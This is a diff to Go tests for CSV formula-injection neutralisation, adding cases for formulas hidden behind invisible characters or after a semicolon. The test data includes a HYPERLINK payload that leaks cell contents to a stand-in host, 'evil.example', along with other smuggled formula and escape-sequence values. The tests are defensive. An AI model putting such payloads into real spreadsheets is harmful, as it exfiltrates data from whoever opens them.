@@ -366,7 +366,7 @@ func TestCSVWriter(t *testing.T) {
 func TestCSV_FormulaCellsNeutralised(t *testing.T) {
 	s := mustOpen(t)
 	const evil = `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
-	data := header + `F1,,hdd,WDC,W1,,"` + strings.ReplaceAll(evil, `"`, `""`) + `",shred,"@SUM(1)",,yes,"+Acme",2021-01-05,0.6,,"-op",,"=1+2"` + "\n"
+	data := header + "F1,,hdd,\";=1+1\",\u200b=1+1,,\"" + strings.ReplaceAll(evil, `"`, `""`) + `",shred,"@SUM(1)",,yes,"+Acme",2021-01-05,0.6,,"-op",,"=1+2"` + "\n"
 	if _, err := importString(s, "f.csv", data); err != nil {
 		t.Fatal(err)
 	}
@@ -390,6 +390,13 @@ func TestCSV_FormulaCellsNeutralised(t *testing.T) {
 	}
 	if err := WriteFOI(&foi, "csv", ans); err != nil {
 		t.Fatal(err)
+	}
+	// Hidden behind a zero-width space, or after a ; (a separator in
+	// European-locale Excel): quoted and neutralised.
+	for _, want := range []string{",\"';=1+1\",", ",'\u200b=1+1,"} {
+		if !strings.Contains(exp.String(), want) {
+			t.Errorf("export does not hold %q:\n%s", want, exp.String())
+		}
 	}
 	for name, out := range map[string]string{"export": exp.String(), "report": rep.String(), "foi": foi.String()} {
 		for _, cell := range strings.FieldsFunc(out, func(r rune) bool { return r == ',' || r == '\n' }) {
@@ -428,12 +435,49 @@ func TestDataAsOf(t *testing.T) {
 	}
 }
 
+// TestNeutraliseCell: formula prefixes hidden behind white space or
+// invisible characters, or after a ; (a separator in European-locale
+// Excel), are neutralised; controls are escaped.
+func TestNeutraliseCell(t *testing.T) {
+	for _, tc := range []struct{ in, cell, csv string }{
+		{"=1+1", "'=1+1", "'=1+1"},
+		{"\u200b=1+1", "'\u200b=1+1", "'\u200b=1+1"},
+		{" =1+1", "' =1+1", "' =1+1"},
+		{"\u00a0+1", "'\u00a0+1", "'\u00a0+1"},
+		{"\u3000-1", "'\u3000-1", "'\u3000-1"},
+		{"\ufeff@SUM(A1)", "'\ufeff@SUM(A1)", "'\ufeff@SUM(A1)"},
+		{"\u00ad\u2060\u2064\u180e=1", "'\u00ad\u2060\u2064\u180e=1", "'\u00ad\u2060\u2064\u180e=1"},
+		{"\u200e=1", "\\u200e=1", "\\u200e=1"}, // escaped: starts with a backslash
+		{";=1+1", "';=1+1", `"';=1+1"`},
+		{"a; @x", "'a; @x", `"'a; @x"`},
+		{"a;b", "a;b", `"a;b"`},
+		{"\tx", "'\tx", "'\tx"},
+		{"SN\u202e1", "SN\\u202e1", "SN\\u202e1"},
+		{"note\x1b[2J", "note\\x1b[2J", "note\\x1b[2J"},
+		{"WD-123", "WD-123", "WD-123"},
+		{"a-b", "a-b", "a-b"},
+		{"", "", ""},
+	} {
+		if got := NeutraliseCell(tc.in); got != tc.cell {
+			t.Errorf("NeutraliseCell(%q) = %q, want %q", tc.in, got, tc.cell)
+		}
+		var buf bytes.Buffer
+		(&csvWriter{w: &buf}).record([]string{tc.in})
+		if got := strings.TrimSuffix(buf.String(), "\r\n"); got != tc.csv {
+			t.Errorf("CSV cell for %q = %q, want %q", tc.in, got, tc.csv)
+		}
+	}
+}
+
 // FuzzCSVWriter: a record without CR reads back exactly with encoding/csv
 // (which turns CRLF inside quotes into LF, so CR is left out), and every
 // line of the output ends with CRLF outside quotes.
 func FuzzCSVWriter(f *testing.F) {
 	f.Add("a", "b,c", `"q"`, "x\ny")
 	f.Add("", " lead", "=1", "é\u00a0")
+	f.Add("\u200b=1+1", ";=1+1", "\u00a0@SUM(A1)", "\ufeff-2")
+	f.Add("a;b", "x; +cmd", "\u202e=1", "\x1b[31mred")
+	f.Add("\u2060\u00ad=1", "\u3000+1", "\u180e@x", "ok;\u200f=2")
 	f.Fuzz(func(t *testing.T, a, b, c, d string) {
 		rec := []string{a, b, c, d}
 		for _, v := range rec {
@@ -460,6 +504,20 @@ func FuzzCSVWriter(f *testing.F) {
 		}
 		if strings.Join(got, "\x00") != strings.Join(want, "\x00") {
 			t.Errorf("wrote %q, read %q, want %q", rec, got, want)
+		}
+		// No cell, nor part of one after a ;, starts a formula, and no
+		// control but TAB, CR and LF, nor bidi control, is left.
+		for _, cell := range got {
+			for _, part := range strings.Split(cell, ";") {
+				if formulaAfterInvisibles(part) && !strings.HasPrefix(cell, "'") {
+					t.Errorf("cell %q (from %q) starts a formula", cell, rec)
+				}
+			}
+			for _, r := range cell {
+				if isUnsafeRune(r) && r != '\t' && r != '\n' {
+					t.Errorf("cell %q (from %q) holds %U", cell, rec, r)
+				}
+			}
 		}
 	})
 }
